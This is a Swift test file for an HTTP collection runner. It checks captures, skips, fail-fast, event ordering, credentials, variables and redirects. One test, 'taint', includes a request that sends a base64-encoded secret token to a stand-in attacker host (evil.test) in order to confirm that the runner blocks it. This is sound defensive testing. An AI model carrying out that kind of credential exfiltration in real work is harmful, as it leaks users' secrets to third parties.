import Diagnostics
import HTTP
import JSON
import Results
import Templates
import TestSupport
import Testing

@testable import Runner

@Suite("Running a plan")
struct EngineTests {
    private static func json(_ text: String, status: Int = 200) -> HTTPResponse {
        HTTPResponse(
            status: status, headers: [HeaderField("Content-Type", "application/json")], body: Array(text.utf8))
    }

    @Test("a capture is used by later requests, in the path as one segment and in the body with its type")
    func captures() async throws {
        let (events, sent) = await RunBench().run([
            """
            { "name": "A", "requests": [
              { "name": "create", "request": "POST https://a.test/things", "body": { "json": { "n": 1 } },
                "capture": { "id": { "json": "$.id" }, "count": { "json": "$.count" } } },
              { "name": "read", "request": "GET https://a.test/things/{{id}}?q={{id}}" },
              { "name": "again", "request": "PUT https://a.test/things", "body": { "json": { "count": "{{count}}" } } } ] }
            """
        ]) { _ in Self.json(#"{"id": "a/b c", "count": 3}"#) }
        #expect(events.verdicts == ["passed", "passed", "passed"])
        #expect(sent[1].url.text == "https://a.test/things/a%2Fb%20c?q=a%2Fb%20c")
        #expect(sent[2].body == .bytes(Array(#"{"count":3}"#.utf8)))
        #expect(sent[0].headers["Content-Type"] == "application/json")
    }

    @Test("a request whose capture found nothing fails, and those that need it are skipped with the reason")
    func missingCapture() async {
        let (events, sent) = await RunBench().run([
            """
            { "name": "A", "requests": [
              { "name": "create", "request": "POST https://a.test/", "capture": { "id": { "json": "$.id" } } },
              { "name": "read", "request": "GET https://a.test/{{id}}" },
              { "name": "with default", "request": "GET https://a.test/{{id ?? 'none'}}" } ] }
            """
        ]) { _ in Self.json("{}") }
        #expect(events.verdicts == ["failed", "it needs 'id', which was not captured", "passed"])
        #expect(sent.map(\.url.path) == ["/", "/none"])
    }

    @Test("a capture survives an expectation that fails, so that the object can be removed")
    func captureBeforeExpect() async {
        let (events, _) = await RunBench().run([
            """
            { "name": "A", "requests": [
              { "name": "create", "request": "POST https://a.test/", "expect": { "status": 201, "json": { "$.id": "{{id}}" } },
                "capture": { "id": { "json": "$.id" } } },
              { "name": "remove", "request": "DELETE https://a.test/{{id}}", "expect": { "status": 200 } },
              { "name": "gone", "after": ["create"], "request": "GET https://a.test/{{id}}" } ] }
            """
        ]) { _ in Self.json(#"{"id": 7}"#) }
        #expect(events.verdicts == ["failed", "passed", "'create' did not pass"])
    }

    @Test("--fail-fast stops after the first request that does not pass")
    func failFast() async {
        var bench = RunBench()
        bench.failFast = true
        let text = """
            { "name": "A", "requests": [
              { "name": "one", "request": "GET https://a.test/1" }, { "name": "two", "request": "GET https://a.test/2" },
              { "name": "three", "request": "GET https://a.test/3" } ] }
            """
        let (events, sent) = await bench.run([text, text.replacing("\"A\"", with: "\"B\"")]) { request in
            HTTPResponse(status: request.url.path == "/2" ? 500 : 200)
        }
        #expect(
            events.verdicts == ["passed", "failed"] + Array(repeating: "stopped by --fail-fast", count: 4))
        #expect(sent.count == 2)
    }

    @Test("events stand in file order, however many lanes there are", arguments: [1, 2, 8])
    func order(jobs: Int) async {
        let collections = (0..<6).map { index in
            """
            { "name": "c\(index)", "requests": [ { "name": "\(index)a", "request": "GET https://a.test/" },
              { "name": "\(index)b", "request": "GET https://a.test/" } ] }
            """
        }
        let (events, _) = await RunBench().run(collections, jobs: jobs) { _ in HTTPResponse(status: 200) }
        #expect(events.order == (0..<6).flatMap { ["start c\($0)", "\($0)a", "\($0)b", "end c\($0)"] })
    }

    @Test("no answer is no verdict; the run goes on")
    func transportError() async {
        let (events, _) = await RunBench().run([
            """
            { "name": "A", "requests": [ { "name": "one", "request": "GET https://a.test/1" },
              { "name": "two", "request": "GET https://a.test/2" } ] }
            """
        ]) { request throws(TransportError) in
            if request.url.path == "/1" { throw TransportError(.connect, "nobody there") }
            return HTTPResponse(status: 200)
        }
        #expect(events.verdicts == ["error", "passed"])
    }

    @Test("an identity's secret goes only to its hosts")
    func taint() async {
        var bench = RunBench()
        bench.variables = ["T": "a-long-secret-value"]
        bench.environment = """
            { "name": "test", "identities": { "me": { "provider": "bearer", "vars": { "apiURL": "https://api.test" },
              "secrets": { "token": { "env": "T" } } } } }
            """
        let (events, sent) = await bench.run([
            """
            { "name": "A", "requests": [
              { "name": "mine", "request": "POST https://api.test/x", "body": { "text": "{{identities.me.token}}" } },
              { "name": "theirs", "request": "POST https://evil.test/x", "body": { "text": "{{base64(identities.me.token)}}" } } ] }
            """
        ]) { _ in HTTPResponse(status: 200) }
        #expect(events.verdicts == ["passed", "error"])
        #expect(sent.map(\.url.host) == ["api.test"])
        #expect(sent.first?.bodyIsSensitive == true)
    }

    @Test("a dead credential is one error; its dependents are skipped, others run")
    func deadCredential() async {
        var bench = RunBench()
        bench.environment = """
            { "name": "test", "identities": { "me": { "provider": "bearer", "vars": { "apiURL": "https://api.test" },
              "secrets": { "token": { "env": "UNSET" } } } } }
            """
        let (events, sent) = await bench.run([
            """
            { "name": "A", "requests": [
              { "name": "one", "as": "me", "request": "GET https://api.test/1" },
              { "name": "two", "as": "me", "request": "GET https://api.test/2" },
              { "name": "open", "as": "anonymous", "request": "GET https://api.test/3" } ] }
            """
        ]) { _ in HTTPResponse(status: 200) }
        #expect(events.verdicts == ["no credential of 'me'", "no credential of 'me'", "passed"])
        #expect(sent.count == 1)
        #expect(events.credentials.map(\.identity) == ["me"])
        #expect(events.credentials.first?.problem?.message.contains("UNSET") == true)
    }

    @Test("variables are evaluated once per run, and the environment hides the collection's")
    func variables() async {
        var bench = RunBench()
        bench.environment = #"{ "name": "test", "variables": { "host": "env.test" } }"#
        bench.given = ["page": TemplateValue(7)]
        let (_, sent) = await bench.run([
            """
            { "name": "A", "variables": { "run": "{{uuid()}}", "host": "collection.test", "base": "https://{{host}}", "page": 1 },
              "requests": [
                { "name": "one", "request": "GET {{base}}/{{run}}/{{page}}" },
                { "group": "g", "variables": { "page": 2, "run2": "{{run}}" }, "requests": [
                  { "name": "two", "request": "GET {{base}}/{{run2}}/{{page}}" } ] } ] }
            """
        ]) { _ in HTTPResponse(status: 200) }
        #expect(sent.count == 2)
        #expect(sent.allSatisfy { $0.url.host == "env.test" && $0.url.path.hasSuffix("/7") })
        #expect(Set(sent.map(\.url.path)).count == 1)
    }

    @Test("a redirect is the answer unless it is followed")
    func redirects() async {
        let (events, sent) = await RunBench().run([
            """
            { "name": "A", "requests": [
              { "name": "seen", "request": "GET https://a.test/old", "expect": { "status": 302 } },
              { "name": "followed", "request": "GET https://a.test/old", "redirects": true } ] }
            """
        ]) { request in
            request.url.path == "/old"
                ? HTTPResponse(status: 302, headers: [HeaderField("Location", "/new")]) : HTTPResponse(status: 200)
        }
        #expect(events.verdicts == ["passed", "passed"])
        #expect(sent.map(\.url.path) == ["/old", "/old", "/new"])
    }

    @Test("the base URL is the sender's, whoever lends it to variables")
    func baseURL() async {
        var bench = RunBench()
        bench.variables = ["T": "a-long-secret-value"]
        bench.environment = """
            { "name": "test", "identities": {
              "bearer": { "provider": "bearer", "vars": { "apiURL": "https://one.test" }, "secrets": { "token": { "env": "T" } } },
              "other": { "provider": "bearer", "vars": { "apiURL": "https://two.test" }, "secrets": { "token": { "env": "T" } } } } }
            """
        let (_, sent) = await bench.run([
            """
            { "name": "A", "provider": "bearer", "variables": { "full": "{{baseURL}}/v1" }, "requests": [
              { "name": "one", "request": "GET /x" }, { "name": "two", "as": "other", "request": "GET /x" },
              { "name": "three", "as": "anonymous", "request": "GET /x" },
              { "name": "four", "request": "GET {{full}}" } ] }
            """
        ]) { _ in HTTPResponse(status: 200) }
        #expect(
            sent.map(\.url.text) == [
                "https://one.test/x", "https://two.test/x", "https://one.test/x", "https://one.test/v1",
            ])
    }

    @Test("the environment's variables are evaluated once, and variables may be made of the base URL")
    func environmentVariables() async {
        var bench = RunBench()
        bench.variables = ["T": "a-long-secret-value"]
        bench.environment = """
            { "name": "test", "variables": { "run": "{{uuid()}}" },
              "identities": { "bearer": { "provider": "bearer", "vars": { "apiURL": "https://api.test" },
                "secrets": { "token": { "env": "T" } } } } }
            """
        let (_, sent) = await bench.run([
            """
            { "name": "A", "provider": "bearer", "variables": { "c": "{{run}}", "full": "{{baseURL}}/v1" }, "requests": [
              { "group": "g", "variables": { "other": 1 }, "requests": [
                { "name": "one", "request": "GET {{full}}/{{run}}/{{c}}" } ] } ] }
            """
        ]) { _ in HTTPResponse(status: 200) }
        let parts = (sent.first?.url.path ?? "").split(separator: "/")
        #expect(parts.count == 3 && parts[0] == "v1" && parts[1] == parts[2])
    }
}
